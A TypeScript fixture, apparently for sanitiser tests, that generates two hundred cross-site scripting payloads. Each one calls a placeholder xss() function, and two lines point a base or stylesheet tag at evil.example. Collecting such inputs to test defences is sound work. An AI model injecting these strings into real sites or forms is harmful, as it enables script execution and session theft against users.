/** What people who mean harm write where names and answers are expected: two hundred texts. Each would call `xss`. */
const tags = [
  '<script>xss()</script>',
  '</textarea><script>xss()</script>',
  '</title><script>xss()</script>',
  '</style><script>xss()</script>',
  '</script><script>xss()</script>',
  '--><script>xss()</script><!--',
  ']]><script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<body onload=xss()>',
  '<iframe srcdoc="<script>xss()</script>">',
  '<a href="javascript:xss()">x</a>',
  '<a href="java&#10;script:xss()">x</a>',
  '<form action="javascript:xss()"><button>x</button></form>',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  '<video><source onerror=xss()></video>',
  '<object data="javascript:xss()">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<math><mi xlink:href="javascript:xss()">x</mi></math>',
  '<template><script>xss()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
] as const
const before = ['', '"', "'", '">', "'>", '\u2028', '`${', '{{'] as const

export const payloads: readonly string[] = tags.flatMap((tag) =>
  before.map((start) => `${start}${tag}`),
)

/** All of them in one text, and what is no markup but an address. */
export const allPayloads = `javascript:xss() ${payloads.join(' ')} data:text/html,<script>xss()</script>`
